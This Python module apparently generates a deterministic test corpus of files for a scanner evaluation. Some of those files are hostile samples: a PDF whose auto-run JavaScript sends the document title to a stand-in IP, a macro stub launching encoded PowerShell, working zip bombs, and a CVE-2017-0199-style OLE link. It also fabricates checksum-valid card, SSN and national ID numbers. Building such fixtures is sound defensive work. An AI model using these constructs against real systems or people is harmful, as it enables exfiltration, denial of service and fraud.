"""Deterministic file and container builders for the corpus (every byte from a seeded ``random.Random``).

Nothing here reads the clock: archive members carry a fixed date, gzip a zero mtime.
"""

from __future__ import annotations

import binascii
import gzip
import io
import lzma
import random
import struct
import tarfile
import zipfile
import zlib
from xml.sax.saxutils import escape

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
FIXED_DATE = (2026, 11, 2, 9, 30, 0)
FIRST = ("Ana", "Bruno", "Chen", "Dara", "Emil", "Farah", "Goran", "Hana", "Ivo", "Jun", "Kemal", "Lena")
LAST = ("Silva", "Novak", "Okafor", "Tanaka", "Larsen", "Haddad", "Moreau", "Kowalski", "Rossi", "Berg")


# ------------------------------------------------------------------------------------------ containers


def zip_of(members: list[tuple[str, bytes]], *, stored: bool = False) -> bytes:
    buf = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, FIXED_DATE)
            info.compress_type = method
            zf.writestr(info, data)
    return buf.getvalue()


def gzip_of(data: bytes, name: str = "") -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(filename=name, mode="wb", fileobj=buf, mtime=0) as gz:
        gz.write(data)
    return buf.getvalue()


def xz_of(data: bytes) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_XZ)


def tar_gz_of(members: list[tuple[str, bytes]]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 1793000000, 0o644
            tf.addfile(info, io.BytesIO(data))
    return gzip_of(raw.getvalue())


def _7z_number(n: int) -> bytes:
    """7-Zip's variable-length UINT64 (the first byte's high bits count the little-endian bytes after it)."""
    if n < 0x80:
        return bytes([n])
    if n < 0x4000:
        return bytes([0x80 | (n >> 8), n & 0xFF])
    if n < 0x200000:
        return bytes([0xC0 | (n >> 16)]) + (n & 0xFFFF).to_bytes(2, "little")
    if n < 0x10000000:
        return bytes([0xE0 | (n >> 24)]) + (n & 0xFFFFFF).to_bytes(3, "little")
    return b"\xff" + n.to_bytes(8, "little")


def sevenz_of(name: str, data: bytes) -> bytes:
    """A one-file 7z archive, LZMA-compressed (LZMA1: LZMA2 would store a small file uncompressed, and
    its content would be visible in the raw bytes)."""
    dict_size = 1 << 16
    packed = lzma.compress(
        data, format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": dict_size}]
    )
    n = _7z_number
    crc = struct.pack("<I", binascii.crc32(data))
    header = (
        b"\x01"  # kHeader
        + b"\x04"  # kMainStreamsInfo
        + b"\x06" + n(0) + n(1) + b"\x09" + n(len(packed)) + b"\x00"  # kPackInfo
        + b"\x07\x0b" + n(1) + b"\x00"  # kUnPackInfo, kFolder, 1 folder, not external
        + n(1) + b"\x23\x03\x01\x01" + n(5) + bytes([0x5D]) + struct.pack("<I", dict_size)  # LZMA
        + b"\x0c" + n(len(data))  # kCodersUnPackSize
        + b"\x0a\x01" + crc + b"\x00"  # kCRC of the folder's output, then kEnd of UnPackInfo
        + b"\x08\x00"  # kSubStreamsInfo: one stream per folder
        + b"\x00"  # kEnd of MainStreamsInfo
        + b"\x05" + n(1)  # kFilesInfo, one file
        + b"\x11" + n(1 + len(name.encode("utf-16-le")) + 2) + b"\x00" + name.encode("utf-16-le") + b"\0\0"
        + b"\x00"  # kEnd of FilesInfo
        + b"\x00"  # kEnd of Header
    )  # fmt: skip
    tail = struct.pack("<QQI", len(packed), len(header), binascii.crc32(header))
    start = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", binascii.crc32(tail)) + tail
    return start + packed + header


# ------------------------------------------------------------------------------------------ documents


def jpeg(rng: random.Random, size: int) -> bytes:
    head = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00"
    head += b"\xff\xdb\x00\x43\x00" + bytes(rng.randrange(1, 64) for _ in range(64))
    head += b"\xff\xc0\x00\x11\x08\x04\x38\x07\x80\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xda\x00\x0c"
    body = rng.randbytes(max(0, size - len(head) - 2)).replace(b"\xff", b"\xfe")
    return head + body + b"\xff\xd9"


def mp4(rng: random.Random, size: int) -> bytes:
    ftyp = struct.pack(">I", 24) + b"ftypisom" + struct.pack(">I", 0x200) + b"isomiso2"
    moov = struct.pack(">I", 16) + b"moov" + struct.pack(">I", 8) + b"mvhd"
    mdat_len = max(8, size - len(ftyp) - len(moov))
    return ftyp + moov + struct.pack(">I", mdat_len) + b"mdat" + rng.randbytes(mdat_len - 8)


def mp3(rng: random.Random, size: int) -> bytes:
    id3 = b"ID3\x04\x00\x00\x00\x00\x00\x00"
    frames = bytearray()
    while len(frames) < size - len(id3):
        frames += b"\xff\xfb\x90\x64" + rng.randbytes(413)
    return id3 + bytes(frames[: size - len(id3)])


def pe(rng: random.Random, size: int = 40_000) -> bytes:
    """A Windows executable's headers (DOS stub, PE signature, COFF, PE32+ optional header) and a body."""
    dos = bytearray(b"MZ" + b"\x90\x00" * 29 + b"\x00\x00")
    dos += b"\x00" * (0x3C - len(dos)) + struct.pack("<I", 0x80)
    dos += b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(dos), b"\x00")
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 3, 1793000000, 0, 0, 0xF0, 0x22)
    optional = struct.pack("<HBB", 0x20B, 14, 0) + rng.randbytes(0xF0 - 4)
    body = rng.randbytes(max(0, size - len(dos) - len(coff) - len(optional)))
    return bytes(dos) + coff + optional + body


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{extra}'
    '<Override PartName="/{main}" ContentType="{ctype}"/></Types>'
)


RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_QUOTE = {'"': "&quot;"}
Link = tuple[str, str, str, bool]  # (relationship part, type, target, external)


def relationships_part(links: list[tuple[str, str, bool]]) -> bytes:
    """A relationship part (``*.rels``) of (type, target, external) links, as Word writes them."""
    rows = "".join(
        f'<Relationship Id="rId{i}" Type="{RELATIONSHIPS}{kind}" Target="{escape(target, _QUOTE)}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for i, (kind, target, external) in enumerate(links, start=10)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
        f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'
    ).encode()


def _ovba_chunk(chunk: bytes) -> bytes:
    """One chunk's tokens (MS-OVBA 2.4.1.3.7): a copy of the nearest earlier match of three bytes or more,
    else a literal; a flag byte before every eight tokens."""
    body, at = bytearray(), 0
    while at < len(chunk):
        flag_at, flags = len(body), 0
        body.append(0)
        for bit in range(8):
            if at >= len(chunk):
                break
            width = max((at - 1).bit_length(), 4)  # the offset's bits at this position
            longest, earliest = (0xFFFF >> width) + 3, max(0, at - (1 << (16 - width)))
            found = chunk.rfind(chunk[at : at + 3], earliest, at + 2) if at + 3 <= len(chunk) else -1
            if 0 <= found < at:
                size = 3
                while size < longest and at + size < len(chunk) and chunk[found + size] == chunk[at + size]:
                    size += 1
                body += (((at - found - 1) << (16 - width)) | (size - 3)).to_bytes(2, "little")
                flags |= 1 << bit
                at += size
            else:
                body.append(chunk[at])
                at += 1
        body[flag_at] = flags
    return bytes(body)


def ovba_compressed(source: bytes) -> bytes:
    """``source`` as an MS-OVBA compressed container, as a VBA project stores a module's source: the
    signature byte, then chunks of 4096 bytes of it, each compressed (or stored raw when that is shorter)."""
    out = bytearray(b"\x01")
    for start in range(0, len(source), 4096):
        chunk = source[start : start + 4096]
        body = _ovba_chunk(chunk)
        if len(body) + 2 > 4098:  # stored as it is, a last chunk padded with zeros (MS-OVBA 2.4.1.3.10)
            out += (0x3FFF).to_bytes(2, "little") + chunk.ljust(4096, b"\x00")
        else:
            out += (0xB000 | (len(body) + 2 - 3)).to_bytes(2, "little") + body
    return bytes(out)


def vba_project(modules: list[str]) -> bytes:
    """A VBA project's OLE file (``vbaProject.bin``): the directory names Office writes (``VBA``,
    ``_VBA_PROJECT``) and each module's source compressed as Office stores it."""
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    ole = ole.ljust(512, b"\x00")
    names = b"".join(s.encode("utf-16-le").ljust(64, b"\x00") for s in ("Root Entry", "VBA", "_VBA_PROJECT"))
    streams = b"".join(
        b"\x00" * 7 + ovba_compressed(m.replace("\n", "\r\n").encode("latin-1")) for m in modules
    )
    return ole + names.ljust(512, b"\x00") + streams


def office(
    kind: str,
    text: str,
    *,
    vba: bool = False,
    macros: list[str] = (),  # type: ignore[assignment]
    links: list[Link] = (),  # type: ignore[assignment]
) -> bytes:
    """A minimal OOXML package (docx, xlsx, pptx); ``vba`` adds a vbaProject.bin (an OLE file with a macro
    project's stream names), as Word keeps macros, and ``macros`` one with those modules' source compressed
    (``vba_project``); ``links`` its parts' relationships (hyperlinks, linked
    objects, the template), grouped into their relationship parts."""
    main, ctype, body = {
        "docx": (
            "word/document.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>",
        ),
        "xlsx": (
            "xl/workbook.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f'<sheets><sheet name="{text[:30]}" sheetId="1"/></sheets></workbook>',
        ),
        "pptx": (
            "ppt/presentation.xml",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
            '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
        ),
    }[kind]
    extra = (
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        if vba or macros
        else ""
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        f'Target="{main}"/></Relationships>'
    )
    members = [
        ("[Content_Types].xml", CONTENT_TYPES.format(extra=extra, main=main, ctype=ctype).encode()),
        ("_rels/.rels", rels.encode()),
        (main, body.encode()),
    ]
    parts: dict[str, list[tuple[str, str, bool]]] = {}
    for part, link_kind, target, external in links:
        parts.setdefault(part, []).append((link_kind, target, external))
    members += [(part, relationships_part(rows)) for part, rows in parts.items()]
    if macros:
        members.append(("word/vbaProject.bin", vba_project(macros)))
    elif vba:
        ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
        ole = ole.ljust(512, b"\x00")
        names = b"".join(
            s.encode("utf-16-le").ljust(64, b"\x00") for s in ("Root Entry", "VBA", "_VBA_PROJECT")
        )
        source = (
            b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n Shell "powershell -enc ..."\r\nEnd Sub'
        )
        members.append(("word/vbaProject.bin", ole + names.ljust(512, b"\x00") + source))
    return zip_of(members)


def pdf(text: str, *, javascript: bool = False) -> bytes:
    objects = [
        "<< /Type /Catalog /Pages 2 0 R"
        + (" /OpenAction 4 0 R /Names << /JavaScript 5 0 R >>" if javascript else "")
        + " >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ]
    if javascript:
        objects += [
            "<< /Type /Action /S /JavaScript /JS (app.launchURL\\('http://203.0.113.9/p?c='+this.info.Title\\);) >>",
            "<< /Names [(init) 4 0 R] >>",
        ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n{obj}\nendobj\n".encode()
    out += f"% {text}\n".encode()
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def text_pdf(lines: list[str], *, compress: bool = True) -> bytes:
    """A well-formed one-page PDF (Helvetica) showing ``lines``, its content stream deflated or not."""
    import zlib

    ops = "BT /F1 10 Tf 50 750 Td " + " ".join(f"({ln}) Tj 0 -12 Td" for ln in lines) + " ET"
    stream = zlib.compress(ops.encode()) if compress else ops.encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >>"
        b" /Contents 4 0 R >>",
        b"<< /Length %d%s >>\nstream\n" % (len(stream), b" /Filter /FlateDecode" if compress else b"")
        + stream
        + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def email_with(subject: str, body: str, attachments: list[tuple[str, bytes, str]]) -> bytes:
    """An .eml message (MIME) with ``attachments`` (name, bytes, type), base64-encoded as mail clients send them."""
    from email.message import EmailMessage

    m = EmailMessage()
    m["From"], m["To"], m["Subject"] = "ops@example.com", "accounts@example.com", subject
    m.set_content(body)
    for name, data, mime in attachments:
        maintype, subtype = mime.split("/")
        m.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    if m.is_multipart():
        m.set_boundary("aup-eval-part")  # the library's is random: the corpus is the same every run
    return m.as_bytes()


# ------------------------------------------------------------------------------------------ personal data


def luhn_complete(prefix: str, length: int, rng: random.Random) -> str:
    digits = prefix + "".join(str(rng.randrange(10)) for _ in range(length - len(prefix) - 1))
    total = 0
    for i, ch in enumerate(reversed(digits)):
        d = int(ch)
        if i % 2 == 0:
            d = d * 2 - 9 if d * 2 > 9 else d * 2
        total += d
    return digits + str((10 - total % 10) % 10)


def card_numbers(rng: random.Random, n: int) -> list[str]:
    issuers = (("4", 16), ("51", 16), ("55", 16), ("2221", 16), ("37", 15), ("6011", 16))
    return [luhn_complete(*issuers[i % len(issuers)], rng) for i in range(n)]


def iban_de(rng: random.Random) -> str:
    """A German IBAN with valid check digits (mod 97), printed in groups of four."""
    bban = "".join(str(rng.randrange(10)) for _ in range(18))
    check = 98 - int(bban + "131400") % 97  # "DE00" moved to the end, letters as numbers (D=13, E=14)
    raw = f"DE{check:02d}{bban}"
    return " ".join(raw[i : i + 4] for i in range(0, len(raw), 4))


def cpf(rng: random.Random) -> str:
    """A Brazilian CPF as its owners write it (000.000.000-00), its two mod-11 check digits right."""
    d = [rng.randrange(10) for _ in range(9)]
    for n in (9, 10):  # each check digit: the weighted sum of the digits before it, mod 11
        d.append(sum(x * (n + 1 - i) for i, x in enumerate(d)) * 10 % 11 % 10)
    digits = "".join(map(str, d))
    return f"{digits[:3]}.{digits[3:6]}.{digits[6:9]}-{digits[9:]}"


def sin(rng: random.Random) -> str:
    """A Canadian Social Insurance Number (000 000 000), Luhn-valid."""
    digits = luhn_complete(str(rng.randrange(1, 8)), 9, rng)
    return f"{digits[:3]} {digits[3:6]} {digits[6:]}"


def _verhoeff_d(j: int, k: int) -> int:
    """The dihedral group D5's product, as Verhoeff numbered its elements."""
    if j < 5:
        return (j + k) % 5 if k < 5 else 5 + (j + k) % 5
    return 5 + (j - k) % 5 if k < 5 else (j - k) % 5


def _verhoeff_p(i: int, x: int) -> int:
    for _ in range(i % 8):
        x = (1, 5, 7, 6, 2, 8, 3, 0, 9, 4)[x]
    return x


def aadhaar(rng: random.Random) -> str:
    """An Indian Aadhaar number (0000 0000 0000), its Verhoeff check digit right."""
    body = [rng.randrange(2, 10)] + [rng.randrange(10) for _ in range(10)]
    inverse = (0, 4, 3, 2, 1, 5, 6, 7, 8, 9)
    check = 0
    for i, x in enumerate(reversed(body)):
        check = _verhoeff_d(check, _verhoeff_p(i + 1, x))
    digits = "".join(map(str, body)) + str(inverse[check])
    return f"{digits[:4]} {digits[4:8]} {digits[8:]}"


def ibans_csv(rng: random.Random, n: int = 40) -> bytes:
    rows = ["name,iban,amount_eur"]
    rows += [f"{person(rng)},{iban_de(rng)},{rng.randrange(100, 5000)}.00" for _ in range(n)]
    return ("\n".join(rows) + "\n").encode()


def ssn_numbers(rng: random.Random, n: int) -> list[int]:
    """Distinct SSNs passing the SSA's rules, as the numbers a spreadsheet keeps (123456789)."""
    out: set[int] = set()
    while len(out) < n:
        area = rng.choice([a for a in range(1, 900) if a != 666])
        out.add(area * 10**6 + rng.randrange(1, 100) * 10**4 + rng.randrange(1, 10_000))
    return sorted(out - {78051120})


def person(rng: random.Random) -> str:
    return f"{rng.choice(FIRST)} {rng.choice(LAST)}"


def cards_csv(rng: random.Random, n: int = 40) -> bytes:
    rows = ["name,card_number,expiry,cvv"]
    for card in card_numbers(rng, n):
        rows.append(
            f"{person(rng)},{card},{rng.randrange(1, 13):02d}/{rng.randrange(27, 32)},{rng.randrange(100, 999)}"
        )
    return ("\n".join(rows) + "\n").encode()


def overlapping_zip_bomb(kernel_bytes: int = 8 << 20, entries: int = 600) -> bytes:
    """One deflated kernel of zeros and ``entries`` central-directory records all pointing at it
    (Fifield's overlapping-files construction, in its simplest form): ~5 GB claimed from ~8 KB."""
    name = b"data.bin"
    comp = zlib_raw(b"\x00" * kernel_bytes)
    crc = binascii.crc32(b"\x00" * kernel_bytes)
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(comp), kernel_bytes, len(name), 0
    )
    data = local + name + comp
    central = b"".join(
        struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(comp), kernel_bytes, len(name),
            0, 0, 0, 0, 0, 0,
        ) + name
        for _ in range(entries)
    )  # fmt: skip
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(central), len(data), 0)
    return data + central + end


def sparse_disk_image(rng: random.Random, size: int = 48 << 20) -> bytes:
    """A freshly formatted disk image: a boot sector and a few filesystem metadata blocks, zeros
    elsewhere (what ``truncate`` + ``mkfs`` leave before anything is written)."""
    image = bytearray(size)
    image[:512] = rng.randbytes(446) + bytes(64) + b"\x55\xaa"
    for at in range(1 << 20, size, 8 << 20):
        image[at : at + 4096] = rng.randbytes(1024) * 4
    return bytes(image)


def nested_zip_bomb(levels: int = 3, fanout: int = 10, leaf_bytes: int = 8 << 20) -> bytes:
    """42.zip's shape: each level holds ``fanout`` copies of the level below; the leaf is zeros."""
    data = zip_of([("0.bin", bytes(leaf_bytes))])
    for level in range(levels):
        data = zip_of([(f"{level}-{i}.zip", data) for i in range(fanout)])
    return data


def zlib_raw(data: bytes) -> bytes:
    import zlib

    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


# Spreadsheets: sheets of rows of cells (value, number format); a format of None is a text cell, any
# other a number shown through that Excel format code ("General", "000\-00\-0000", ...).
Cell = tuple[object, "str | None"]
SHEET_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _column(c: int) -> str:
    name = ""
    c += 1
    while c:
        c, rest = divmod(c - 1, 26)
        name = chr(65 + rest) + name
    return name


def xlsx(
    sheets: list[list[list[Cell]]], *, styles: bytes | None = None, namespace: str = SHEET_MAIN
) -> bytes:
    """A minimal OOXML workbook whose number cells carry their formats (``styles``: a part of one's own;
    ``namespace``: Strict Open XML's instead of the transitional one)."""
    from xml.sax.saxutils import escape, quoteattr

    codes = sorted(
        {fmt for sheet in sheets for row in sheet for _, fmt in row if fmt not in (None, "General")}
    )
    xf_of = {code: 1 + i for i, code in enumerate(codes)} | {"General": 0}
    fmts = "".join(f'<numFmt numFmtId="{164 + i}" formatCode={quoteattr(c)}/>' for i, c in enumerate(codes))
    xfs = '<xf numFmtId="0"/>' + "".join(
        f'<xf numFmtId="{164 + i}" applyNumberFormat="1"/>' for i in range(len(codes))
    )
    style_part = (
        styles
        or (
            f'<styleSheet xmlns="{namespace}"><numFmts count="{len(codes)}">{fmts}</numFmts>'
            f'<cellXfs count="{len(codes) + 1}">{xfs}</cellXfs></styleSheet>'
        ).encode()
    )
    members = [
        (
            "[Content_Types].xml",
            b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        ),
        ("xl/workbook.xml", f'<workbook xmlns="{namespace}"><sheets/></workbook>'.encode()),
        ("xl/styles.xml", style_part),
    ]
    for k, sheet in enumerate(sheets, start=1):
        rows = []
        for r, row in enumerate(sheet, start=1):
            cells = []
            for c, (value, fmt) in enumerate(row):
                ref = f"{_column(c)}{r}"
                if fmt is None:
                    cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{escape(str(value))}</t></is></c>')
                else:
                    cells.append(f'<c r="{ref}" s="{xf_of[fmt]}"><v>{value}</v></c>')
            rows.append(f'<row r="{r}">{"".join(cells)}</row>')
        body = f'<worksheet xmlns="{namespace}"><sheetData>{"".join(rows)}</sheetData></worksheet>'
        members.append((f"xl/worksheets/sheet{k}.xml", body.encode()))
    return zip_of(members)


def _short(parts: list[str]) -> str:
    """An ISO 9660 directory's short name: stable for its path, whatever the process."""
    return f"D{zlib.crc32('/'.join(parts).encode()) % 10**6}"


def iso_of(members: list[tuple[str, bytes]], *, when: float, names: str = "joliet") -> bytes:
    """An ISO 9660 disk image of ``members`` (path, bytes), written by pycdlib as mastering tools do: with
    Joliet names (``names="joliet"``), Rock Ridge names (``"rock-ridge"``), or ISO 9660's alone (``"iso"``:
    ``F<k>.``). Its dates are ``when`` (pycdlib stamps the clock's): the same bytes on every build."""
    import pycdlib
    import time_machine

    with time_machine.travel(when, tick=False):
        image = pycdlib.PyCdlib()
        image.new(interchange_level=3, joliet=3 if names == "joliet" else None,
                  rock_ridge="1.09" if names == "rock-ridge" else None)  # fmt: skip
        made: set[str] = set()
        for k, (path, data) in enumerate(members):
            parts = path.split("/")
            for depth in range(1, len(parts)):  # its directories, once each
                folder = "/".join(parts[:depth])
                if folder not in made:
                    made.add(folder)
                    short = "/" + "/".join(_short(parts[: i + 1]) for i in range(depth))
                    extra = {
                        "joliet": {"joliet_path": "/" + folder},
                        "rock-ridge": {"rr_name": parts[depth - 1]},
                    }
                    image.add_directory(short, **extra.get(names, {}))
            short = "/" + "/".join([*(_short(parts[: i + 1]) for i in range(len(parts) - 1)), f"F{k}.;1"])
            extra = {"joliet": {"joliet_path": "/" + path}, "rock-ridge": {"rr_name": parts[-1]}}
            image.add_fp(io.BytesIO(data), len(data), short, **extra.get(names, {}))
        out = io.BytesIO()
        image.write_fp(out)
        image.close()
    return out.getvalue()


def shortcut(target: str, arguments: str = "", *, icon: str = "", relative: str = "") -> bytes:
    """A Windows shortcut (MS-SHLLINK) as Explorer writes one: its header, a link info naming ``target``
    as a local path, then, in UTF-16, its relative path, arguments and icon location."""
    flags = 0x2 | 0x80 | (0x8 if relative else 0) | (0x20 if arguments else 0) | (0x40 if icon else 0)
    header = bytes.fromhex("4c0000000114020000000000c000000000000046") + struct.pack("<II", flags, 0x20)
    header += bytes(24) + struct.pack("<IIIH", 0, 0, 1, 0) + bytes(10)  # times, size, icon, show, key
    base = target.encode("latin-1") + b"\x00"
    volume = struct.pack("<IIII", 17, 3, 0, 16) + b"\x00"  # a fixed drive, no label
    info_header = 0x1C
    info = struct.pack("<IIIIIII", info_header + len(volume) + len(base) + 1, info_header, 1, info_header,
                       info_header + len(volume), 0, info_header + len(volume) + len(base))  # fmt: skip
    info += volume + base + b"\x00"
    strings = b"".join(
        struct.pack("<H", len(text)) + text.encode("utf-16-le")
        for text in (relative, arguments, icon)
        if text
    )
    return header + info + strings


def onenote(files: list[bytes], text: str = "") -> bytes:
    """A OneNote section (MS-ONESTORE) holding ``files`` as OneNote stores a file dropped on a page: its
    header (the format's GUID, then the store's fields), a page's text in UTF-16, and each file in a file
    data store object (a header GUID, the length, 12 bytes, the file, padding to 8, a footer GUID)."""
    header = (
        bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
        + bytes(16)
        + bytes.fromhex(
            "3fdd9a10cc1cbc4ea8f8dc6c5a31a9c5"  # (the file's own GUID)
        )
        + bytes(1024 - 48)
    )
    body = text.encode("utf-16-le")
    for blob in files:
        pad = b"\x00" * (-len(blob) % 8)
        body += (bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QI", len(blob), 0) + bytes(8)
                 + blob + pad + bytes.fromhex("22a7fb71790f0b4abb13899256426b24"))  # fmt: skip
    return header + body + bytes(64)


def ar_of(members: list[tuple[str, bytes]]) -> bytes:
    """An ar archive as ``dpkg-deb`` and GNU ar write one: 16-byte names (longer ones in a ``//`` table,
    referred to as ``/<offset>``), data padded to an even length."""

    def header(name: str, size: int) -> bytes:
        return f"{name:<16}{0:<12}{0:<6}{0:<6}{100644:<8}{size:<10}`\n".encode()

    table, refs = b"", {}
    for name, _ in members:
        if len(name) > 15:
            refs[name] = f"/{len(table)}"
            table += name.encode() + b"/\n"
    out = bytearray(b"!<arch>\n")
    if table:
        out += header("//", len(table)) + table + b"\n" * (len(table) % 2)
    for name, data in members:
        out += header(refs.get(name, name + "/"), len(data)) + data + b"\n" * (len(data) % 2)
    return bytes(out)


def cpio_of(members: list[tuple[str, bytes]]) -> bytes:
    """A cpio archive in the new ASCII format (``070701``), as ``cpio -H newc`` writes one: a directory
    entry, the files, the trailer."""

    def entry(name: str, mode: int, data: bytes) -> bytes:
        raw = name.encode() + b"\x00"
        fields = [1, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(raw), 0]
        head = b"070701" + "".join(f"{v:08X}" for v in fields).encode() + raw
        return head + b"\x00" * (-len(head) % 4) + data + b"\x00" * (-len(data) % 4)

    out = entry(".", 0o040755, b"")
    out += b"".join(entry(name, 0o100644, data) for name, data in members)
    return out + entry("TRAILER!!!", 0, b"")


def packaged(name: str, data: bytes) -> bytes:
    """The Packager's native data for a file ``name``: what Word embeds when a file is dropped on a page."""
    import struct

    path = f"C:\\Users\\user\\Desktop\\{name}".encode("latin-1")
    temp = f"C:\\Users\\user\\AppData\\Local\\Temp\\{name}".encode("latin-1") + b"\x00"
    return (
        b"\x02\x00" + name.encode("latin-1") + b"\x00" + path + b"\x00" + b"\x00\x00\x03\x00"
        + struct.pack("<I", len(temp)) + temp + struct.pack("<I", len(data)) + data
    )  # fmt: skip


def ole2link(url: str) -> bytes:
    """An OLE2Link object's data: a compound file whose ``\\x01Ole`` stream links to ``url`` through a URL
    moniker (its class id, the URL's size, the URL in UTF-16LE), as CVE-2017-0199's documents carry."""
    moniker_clsid = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")  # {79EAC9E0-BAF9-11CE-8C82-...}
    address = url.encode("utf-16-le") + b"\x00\x00"
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00").ljust(
        512, b"\x00"
    )
    names = b"".join(n.encode("utf-16-le").ljust(128, b"\x00") for n in ("Root Entry", "\x01Ole"))
    stream = b"\x01\x00\x00\x02" + b"\x00" * 16 + moniker_clsid + struct.pack("<I", len(address)) + address
    return header + names.ljust(512, b"\x00") + stream.ljust(512, b"\x00")


def rtf(
    text: str,
    objects: list[tuple[str, bytes]] = (),  # type: ignore[assignment]
    *,
    update: bool = False,
    linked: bool = False,
    binary: bool = False,
    width: int = 128,
) -> bytes:
    """An RTF document of ``text`` paragraphs embedding ``objects`` (class name, native data) as Word
    writes them: an OLE 1.0 header, then the data, in hex lines of ``width`` digits; ``linked``: as a
    linked object (``\\objautlink``), ``update``: refreshed as the document opens (``\\objupdate``);
    ``binary``: the object's bytes as they are after ``\\binN`` instead of in hex."""
    import struct

    def lp(value: str) -> bytes:
        raw = value.encode("latin-1") + b"\x00" if value else b""
        return struct.pack("<I", len(raw)) + raw

    body = [r"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\froman Times New Roman;}}\f0\fs24 "]
    body += [
        line.replace("\\", "\\\\").replace("{", r"\{").replace("}", r"\}") + r"\par "
        for line in text.split("\n")
    ]
    for cls, native in objects:
        blob = (
            struct.pack("<II", 0x0501, 2)
            + lp(cls)
            + lp("")
            + lp("")
            + struct.pack("<I", len(native))
            + native
        )
        digits = blob.hex()
        lines = "\n".join(digits[i : i + width] for i in range(0, len(digits), width))
        if binary:
            lines = rf"\bin{len(blob)} " + blob.decode("latin-1")
